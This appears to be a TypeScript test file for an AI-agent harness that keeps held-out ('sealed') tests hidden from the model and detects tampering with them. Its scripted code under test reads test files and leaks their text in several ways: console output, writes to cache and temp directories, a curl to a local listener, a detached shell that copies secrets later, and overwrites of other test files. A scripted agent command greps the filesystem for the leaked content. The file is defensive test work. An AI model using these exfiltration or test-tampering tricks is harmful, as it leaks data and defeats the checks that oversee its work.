import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect } from 'vitest';
import { goalIdOf, reply, sequence } from '../../../demo/script.ts';
import type { SealedOfGoal } from '../../../schema/sealed.ts';
import { SANDBOX } from '../../sandbox/support.ts';
import { testWith } from '../../support/needs.ts';
import { openScriptedGoals, type ScriptedGoals } from '../../support/scripted-goals.ts';
import { claim, SECRETS, SHOP, seal, writeSum } from '../sealed/shop.ts';

/** What the code under test does with what lies beside it in the proof. */
const tell = (how: string): string => `exports.sum = (a, b) => (a === 1 ? 3 : a - b);
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const found = fs.readdirSync('test').map((name) => fs.readFileSync(path.join('test', name), 'utf8'));
const text = [...fs.readdirSync('test'), ...found].join('\\n').replaceAll('\\n', ' ');
const put = (at, what = text) => {
  try {
    fs.mkdirSync(path.dirname(at), { recursive: true });
    fs.writeFileSync(at, what);
  } catch {}
};
if (fs.readdirSync('test').length > 1) {
${how}
}
`;

const places = [
  ...[
    "path.join(os.homedir(), '.npm/_cacache/content-v2/a')",
    "path.join(os.homedir(), '.cache/a')",
  ],
  ...["'/tmp/a'", "'/var/tmp/a'", "'/dev/shm/a'", "'./left.txt'", "'node_modules/.cache/a'"],
  ...["'node_modules/lib/a'", "'../a'", "path.join(process.env.TMPDIR ?? '/tmp', 'b')"],
];

/** All that is newer than the goal's start: toolchains of the home are gigabytes. */
const LOOK =
  'find "$HOME" /tmp /var/tmp /dev/shm . .. -type f -newer package.json ' +
  '-exec grep -lE "zqx(heldout|content|case)" {} + 2>/dev/null; true';

let server: Server;
const heard: string[] = [];
let goals: ScriptedGoals;
beforeAll(async () => {
  server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const look = reply.call('run_command', { command: LOOK });
  const script = (how: string) => sequence([writeSum(tell(how)), claim, look, claim]);
  goals = await openScriptedGoals({
    tells: script(
      [
        'console.log(text); console.error(text);',
        ...places.map((place) => `put(${place});`),
        `require('node:child_process').spawnSync('curl', ['-m2', 'http://127.0.0.1:${port}/' + encodeURIComponent(text).slice(0, 900)]);`,
        "require('node:child_process').spawn('sh', ['-c', 'sleep 8; grep -r zqx . > /tmp/late; cp /tmp/late ./late'], { detached: true, stdio: 'ignore' }).unref();",
      ].join('\n'),
    ),
    throws: script('throw new Error(text);'),
    names: script(
      "require('node:test').test(text, () => { throw new Error(text); });\nprocess.title = text;",
    ),
    rewrites: script(
      "for (const name of fs.readdirSync('test')) if (!name.startsWith('sum')) put('test/' + name, \"require('node:test').test('a', () => {});\");",
    ),
  });
});
afterAll(async () => {
  await goals.world.close();
  server.close();
});

/** Nothing sealed runs anywhere else. */
const judged = testWith(SANDBOX);

for (const [name, what, hint] of [
  ['tells', 'prints, writes and sends what it reads, and stays to write it later,', 'none'],
  ['throws', 'throws what it reads', 'none'],
  ['names', 'names its tests and itself by what it reads', 'name'],
] as const) {
  judged(`SEAL-6 code under test that ${what} tells the model nothing of it`, async () => {
    const { sealedId } = await seal(goals.world, { hint });
    const workspace = {
      path: await goals.world.workspace({ ...SHOP, 'node_modules/lib/index.js': '' }),
    };
    const criteria = [
      { kind: 'command' as const, command: 'node --test test/sum.test.js' },
      { kind: 'sealed' as const, sealedId },
    ];
    const goalId = await goals.start(name, {
      ...{ workspace, criteria, scope: { change: ['src/**'] } },
      // The goal's own commands may call the network; what is sealed runs without it.
      policy: { sandbox: { network: 'host' } },
      budget: { turns: 3 },
    });
    await goals.rest(goalId);
    const shown = await goals.world.client.get<SealedOfGoal>(`/v1/goals/${goalId}/sealed`);
    const own = shown.items[0]?.runs.filter(({ origin }) => origin === 'gate') ?? [];
    // The second claim is of the same files, so nothing ran for it.
    expect(own.map(({ state }) => state)).toEqual(['unmet']);
    const prompts = goals.world.model.requests.filter((one) => goalIdOf(one) === goalId);
    expect(prompts.length).toBeGreaterThan(3);
    const read = prompts.flatMap(({ messages }) => messages.map(({ text }) => text)).join('\n');
    const allowed = hint === 'name' ? ['zqxcase'] : [];
    for (const secret of SECRETS) {
      if (!allowed.includes(secret)) expect(read).not.toContain(secret);
    }
    expect(heard.filter((url) => /zqx/.test(url))).toEqual([]);
  });
}

judged('SEAL-18 a sealed file that the code under test rewrites meets nothing', async () => {
  const command = `node -e "require('./src/sum.js')" && node --test test/zqxheldout.test.js`;
  const { sealedId } = await seal(goals.world, { command });
  const workspace = { path: await goals.world.workspace(SHOP) };
  const criteria = [
    { kind: 'command' as const, command: 'node --test test/sum.test.js' },
    { kind: 'sealed' as const, sealedId },
  ];
  const more = { workspace, criteria, scope: { change: ['src/**'] }, budget: { turns: 1 } };
  const goalId = await goals.start('rewrites', more);
  expect((await goals.rest(goalId)).completion).toBeUndefined();
  const shown = await goals.world.client.get<SealedOfGoal>(`/v1/goals/${goalId}/sealed`);
  expect(shown.items[0]?.runs.at(-1)).toMatchObject({
    state: 'unmet',
    reason: 'sealed files changed while it ran',
  });
});
